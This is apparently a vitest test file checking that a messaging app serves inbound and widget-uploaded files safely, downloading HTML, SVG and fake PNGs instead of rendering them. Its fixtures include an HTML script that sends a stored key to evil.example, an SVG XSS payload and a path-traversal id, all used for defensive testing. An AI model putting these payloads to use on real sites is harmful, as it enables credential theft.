// GET /api/media/:id serves the kept copy of an inbound file by its unguessable id, and
// GET /api/widget/uploads/:id a visitor's attachment. Both are bytes someone outside chose: only a
// real image, audio, video or PDF is shown inline; anything else downloads as octet-stream, and
// every answer forbids sniffing and is sandboxed, so a customer's HTML can never read the dashboard.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildApp, type App } from '../../src/http/app.js';
import { drainJobs } from '../../src/jobs/queue.js';
import { providers } from '../../src/providers/registry.js';
import { receiveWebhook } from '../../src/services/inbound/receive.js';
import { createOrganization } from '../../src/services/tenancy/organizations.js';
import { createWidget, widgetInput } from '../../src/services/widgets/settings.js';
import { startFakeMeta, type FakeMeta } from '../fakes/meta.js';
import { startFakeTwilio, type FakeTwilio } from '../fakes/twilio.js';
import { fixtureBytes, signedMetaRequest, signedTwilioRequest, twilioFields } from '../fixtures/providers/index.js';
import { EMPTY, keepFile } from '../../src/services/media/files.js';
import { makeTestContext } from '../support/context.js';
import { makeNumber, makeOrganization } from '../support/factories.js';

const PUBLIC_URL = 'https://switchboard.example.com';
const APP_SECRET = 'e3b1c44298fc1c149afbf4c8996fb924';

const SCRIPT_PAGE = Buffer.from('<!doctype html><script>fetch("//evil.example/?k="+localStorage["switchboard.key"])</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF\n');

let twilioFake: FakeTwilio;
let metaFake: FakeMeta;
let ctx: Awaited<ReturnType<typeof makeTestContext>>;
let app: App;

beforeAll(async () => {
  twilioFake = await startFakeTwilio();
  metaFake = await startFakeMeta();
});
afterAll(async () => {
  await twilioFake.close();
  await metaFake.close();
});
beforeEach(async () => {
  ctx = await makeTestContext({
    env: {
      PUBLIC_URL,
      TWILIO_ACCOUNT_SID: twilioFake.accountSid,
      TWILIO_AUTH_TOKEN: twilioFake.authToken,
      TWILIO_API_BASE_URL: twilioFake.url,
      WHATSAPP_APP_SECRET: APP_SECRET,
      WHATSAPP_ACCESS_TOKEN: metaFake.accessToken,
      META_GRAPH_BASE_URL: metaFake.url,
      // the fakes listen on loopback
      MEDIA_FETCH_ALLOW_PRIVATE: 'true',
    },
  });
  app = await buildApp(ctx);
});
afterEach(async () => {
  await app.close();
  await ctx.database.close();
});

type Served = { status: number; type: string | undefined; disposition: string | undefined; nosniff: unknown; csp: unknown; bytes: Buffer };

async function served(url: string): Promise<Served> {
  const res = await app.inject({ method: 'GET', url: new URL(url, PUBLIC_URL).pathname });
  return {
    status: res.statusCode,
    type: res.headers['content-type'] as string | undefined,
    disposition: res.headers['content-disposition'] as string | undefined,
    nosniff: res.headers['x-content-type-options'],
    csp: res.headers['content-security-policy'],
    bytes: res.rawPayload,
  };
}

const attachment = (filename: string) => ({
  status: 200,
  type: 'application/octet-stream',
  disposition: `attachment; filename="${filename}"`,
  nosniff: 'nosniff',
  csp: 'sandbox',
});
const inline = (type: string, filename: string) => ({ status: 200, type, disposition: `inline; filename="${filename}"`, nosniff: 'nosniff', csp: 'sandbox' });

/** The fileUrl the `inbound.media` job gave the last inbound message. */
async function copiedFileUrl(): Promise<string> {
  await drainJobs(ctx);
  const message = await ctx.db.selectFrom('messages').select('media').where('direction', '=', 'in').orderBy('id', 'desc').executeTakeFirstOrThrow();
  const media = JSON.parse(message.media!);
  expect(media.fileUrl).toMatch(/\/api\/media\/[A-Za-z0-9_-]{16,}$/);
  return media.fileUrl;
}

let messageIds = 0;
async function keptMedia(id: string, mimeType: string, filename: string, bytes: Buffer): Promise<string> {
  await ctx.db
    .insertInto('message_media')
    .values({
      id,
      message_id: ++messageIds,
      organization_id: null,
      mime_type: mimeType,
      filename,
      size: bytes.length,
      bytes: EMPTY,
      storage_key: await keepFile(ctx, 'inbound', bytes, mimeType),
      created_at: ctx.clock.now().toISOString(),
    })
    .execute();
  return `/api/media/${id}`;
}

describe('GET /api/media/:id', () => {
  it('serves the bytes with their type, and 404 / 400 otherwise', async () => {
    const bytes = Buffer.from('%PDF-1.4 tiny');
    const url = await keptMedia('AbCdEfGhIjKlMnOpQrStUv', 'application/pdf', 'invoice 7.pdf', bytes);
    const res = await app.inject({ method: 'GET', url });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe('inline; filename="invoice_7.pdf"');
    expect(res.rawPayload.equals(bytes)).toBe(true);

    expect((await app.inject({ method: 'GET', url: '/api/media/ZZZZZZZZZZZZZZZZZZZZZZ' })).statusCode).toBe(404);
    const bad = await app.inject({ method: 'GET', url: '/api/media/..%2F..%2Fetc' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().ok).toBe(false);
  });

  it('downloads a Twilio "document" that is an HTML page with a script, never showing it on our origin', async () => {
    const org = await makeOrganization(ctx);
    await makeNumber(ctx, { organization_id: org.id, provider: 'twilio', phone_number: '+14155550123', provider_id: 'PN0123456789abcdef0123456789abcdef' });
    const fields = {
      ...twilioFields('twilio/inbound-media.txt'),
      MessageType: 'document',
      MediaContentType0: 'text/html',
      MediaUrl0: twilioFake.addMedia(SCRIPT_PAGE, 'text/html; charset=utf-8'),
    };
    await receiveWebhook(ctx, providers.twilio, signedTwilioRequest(fields, twilioFake.authToken, PUBLIC_URL));
    const answer = await served(await copiedFileUrl());
    expect(answer).toMatchObject(attachment('file'));
    expect(answer.bytes.equals(SCRIPT_PAGE)).toBe(true);
  });

  it('downloads a Meta document declared text/html, whatever Meta says its type is', async () => {
    const org = await makeOrganization(ctx);
    await makeNumber(ctx, { organization_id: org.id, provider: 'meta', phone_number: '+15550783881', provider_id: '106540352242922' });
    const mediaId = metaFake.addMedia(SCRIPT_PAGE, 'text/html');
    const body = fixtureBytes('meta/document.json')
      .toString('utf8')
      .replace('"mime_type":"application/pdf"', '"mime_type":"text/html"')
      .replace('"filename":"invoice-1042.pdf"', '"filename":"invoice.html"')
      .replace('902134567812345', mediaId);
    await receiveWebhook(ctx, providers.meta, signedMetaRequest(Buffer.from(body), APP_SECRET));
    expect(await served(await copiedFileUrl())).toMatchObject(attachment('invoice.html'));
  });

  it('shows only real images and PDFs inline; an SVG, XHTML or a "PNG" that is HTML downloads', async () => {
    expect(await served(await keptMedia('svg_aaaaaaaaaaaaaaaa', 'image/svg+xml', 'logo.svg', SVG))).toMatchObject(attachment('logo.svg'));
    expect(await served(await keptMedia('xhtml_aaaaaaaaaaaaaa', 'application/xhtml+xml', 'a.xhtml', SCRIPT_PAGE))).toMatchObject(attachment('a.xhtml'));
    expect(await served(await keptMedia('fakepng_aaaaaaaaaaaa', 'image/png', 'photo.png', SCRIPT_PAGE))).toMatchObject(attachment('photo.png'));
    const png = await served(await keptMedia('png_aaaaaaaaaaaaaaaa', 'image/png', 'photo.png', PNG));
    expect(png).toMatchObject(inline('image/png', 'photo.png'));
    expect(png.bytes.equals(PNG)).toBe(true);
    expect(await served(await keptMedia('pdf_aaaaaaaaaaaaaaaa', 'application/pdf', 'invoice.pdf', PDF))).toMatchObject(
      inline('application/pdf', 'invoice.pdf'),
    );
  });
});

describe('GET /api/widget/uploads/:id', () => {
  it("serves a visitor's attachment by the same rule: HTML, SVG and a fake PNG download, a PNG and a PDF show", async () => {
    const org = await createOrganization(ctx, { name: 'Shop' });
    const widget = await createWidget(ctx, org.id, widgetInput.parse({ name: 'Site', allowedOrigins: ['*'] }));
    const session = await app.inject({
      method: 'POST',
      url: `/api/widget/${widget.publicKey}/sessions`,
      headers: { origin: 'https://shop.example' },
      payload: {},
    });
    expect(session.statusCode).toBe(201);
    const { sessionId, token } = session.json() as { sessionId: string; token: string };
    const upload = async (type: string, bytes: Buffer, filename: string) => {
      const sent = await app.inject({
        method: 'POST',
        url: `/api/widget/sessions/${sessionId}/messages`,
        headers: { authorization: `Bearer ${token}`, origin: 'https://shop.example' },
        payload: { media: { dataUrl: `data:${type};base64,${bytes.toString('base64')}`, filename } },
      });
      expect(sent.statusCode).toBe(201);
      return served(sent.json().message.media.url);
    };
    expect(await upload('text/html', SCRIPT_PAGE, 'x.html')).toMatchObject(attachment('x.html'));
    expect(await upload('image/svg+xml', SVG, 'x.svg')).toMatchObject(attachment('x.svg'));
    expect(await upload('image/png', SCRIPT_PAGE, 'x.png')).toMatchObject(attachment('x.png'));
    expect(await upload('image/png', PNG, 'receipt.png')).toMatchObject(inline('image/png', 'receipt.png'));
    expect(await upload('application/pdf', PDF, 'receipt.pdf')).toMatchObject(inline('application/pdf', 'receipt.pdf'));
  });
});
